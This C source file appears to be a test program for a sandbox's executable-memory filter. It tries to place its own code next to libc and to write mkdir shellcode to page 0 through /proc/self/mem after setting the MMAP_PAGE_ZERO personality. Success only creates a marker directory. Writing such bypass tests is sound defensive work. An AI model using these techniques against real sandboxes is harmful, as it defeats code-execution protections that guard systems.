/* SPDX-License-Identifier: ISC */
/*
 * escape_slot (attacks slot-map, slot-reexec): code of the process's
 * choosing mapped into the start-up slots after the entry point, where
 * ld.so's objects live (the slots' room is not sealed).  Executable
 * memory may exist only where pinned or in the late-code band: from the
 * entry point on, an executable mapping there is refused, also in an image
 * moved to the same addresses by an exec of the same program (the filter
 * that refuses it was installed by the first).  The effect: MARK made once
 * a page of the program's own file is executable next to libc.
 *
 *   escape_slot slot-map MARK      in this image
 *   escape_slot slot-reexec MARK   after exec'ing itself (the same slots)
 *
 * The kernel makes executable memory too: with personality
 * MMAP_PAGE_ZERO an exec maps page 0 r-x (root: CAP_SYS_RAWIO).  Code
 * written there through /proc/self/mem, outside every range of an image
 * moved to an earlier one's addresses, makes the raw mkdir of MARK:
 *
 *   escape_slot page-zero MARK     personality, re-exec, call page 0
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef MAP_FIXED_NOREPLACE
#define MAP_FIXED_NOREPLACE 0x100000
#endif

#define PAGE 4096ul
#define MAXMAPS 4096

struct map {
	unsigned long lo, hi;
	char perm[5];
	int libc;
};

static struct map maps[MAXMAPS];
static size_t nmaps;

static void
read_maps(void)
{
	char line[4096], path[4096];
	FILE *f = fopen("/proc/self/maps", "re");

	nmaps = 0;
	while (f != NULL && nmaps < MAXMAPS && fgets(line, sizeof(line), f)) {
		struct map *m = &maps[nmaps];
		path[0] = '\0';
		if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %4095s", &m->lo, &m->hi,
		    m->perm, path) < 3)
			continue;
		m->libc = strstr(path, "/libc.so") != NULL ||
		    strstr(path, "/libc-") != NULL;
		nmaps++;
	}
	if (f != NULL)
		fclose(f);
}

/* A page of our own file made executable at a: 0 when it is there. */
static int
try_at(int fd, unsigned long a, int replace)
{
	void *r = mmap((void *)a, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE |
	    (replace ? MAP_FIXED : MAP_FIXED_NOREPLACE), fd, 0);

	if (r == MAP_FAILED) {
		printf("mmap at %#lx: %s\n", a, strerror(errno));
		return -1;
	}
	if ((unsigned long)r != a) {
		printf("mmap at %#lx: placed at %p instead\n", a, r);
		munmap(r, PAGE);
		return -1;
	}
	return 0;
}

static int
attack(const char *mark)
{
	unsigned long lo = 0, hi = 0, a;
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	size_t i, last = 0;

	if (fd == -1)
		return 1;
	read_maps();
	for (i = 0; i < nmaps; i++)
		if (maps[i].libc) {
			if (lo == 0)
				lo = maps[i].lo;
			hi = maps[i].hi;
			last = i;
		}
	if (lo == 0) {
		printf("no libc mapping\n");
		return 1;
	}
	/* libc's bss follows its file */
	while (last + 1 < nmaps && maps[last + 1].lo == hi &&
	    maps[last + 1].perm[0] == 'r' && !maps[last + 1].libc)
		hi = maps[++last].hi;
	/* the room inside libc (alignment holes) and right after it */
	for (i = 0; i < nmaps; i++) {
		if (maps[i].lo < lo || maps[i].lo > hi + (2ul << 20) ||
		    strcmp(maps[i].perm, "---p") != 0)
			continue;
		if (try_at(fd, maps[i].lo, 1) == 0)
			goto landed;
	}
	for (a = hi; a < hi + (2ul << 20); a += 64 * PAGE)
		if (try_at(fd, a, 0) == 0)
			goto landed;
	return 3;
landed:
	printf("own code executable next to libc\n");
	return mkdir(mark, 0755) == 0 ? 0 : 1;
}

static int
page_zero(char **argv)
{
	static const unsigned char code[] = { 0xb8, 83, 0, 0, 0,	/* mkdir */
		0x0f, 0x05, 0xc3 };
	long (*at0)(const char *, long) = NULL;
	int fd;

	if (strcmp(argv[1], "page-zero") == 0) {
		char *const av[] = { argv[0], (char *)"page-zero-2", argv[2],
		    NULL };
		if (personality(0xffffffff | 0) == -1 ||
		    personality(MMAP_PAGE_ZERO) == -1) {
			printf("personality: %s\n", strerror(errno));
			return 3;
		}
		execv("/proc/self/exe", av);
		printf("execv: %s\n", strerror(errno));
		return 3;
	}
	if ((fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC)) == -1 ||
	    pwrite(fd, code, sizeof(code), 0) != (ssize_t)sizeof(code)) {
		printf("no page 0: %s\n", strerror(errno));
		return 3;
	}
	__asm__ volatile("" : "+r"(at0));
	return at0(argv[2], 0755) == 0 ? 0 : 3;
}

int
main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 3) {
		fprintf(stderr, "usage: escape_slot slot-map|slot-reexec|"
		    "page-zero MARK\n");
		return 2;
	}
	if (strncmp(argv[1], "page-zero", 9) == 0)
		return page_zero(argv);
	if (strcmp(argv[1], "slot-reexec") == 0) {
		char *const av[] = { argv[0], (char *)"slot-map", argv[2],
		    NULL };
		execv("/proc/self/exe", av);
		perror("execv");
		return 1;
	}
	return strcmp(argv[1], "slot-map") == 0 ? attack(argv[2]) : 2;
}
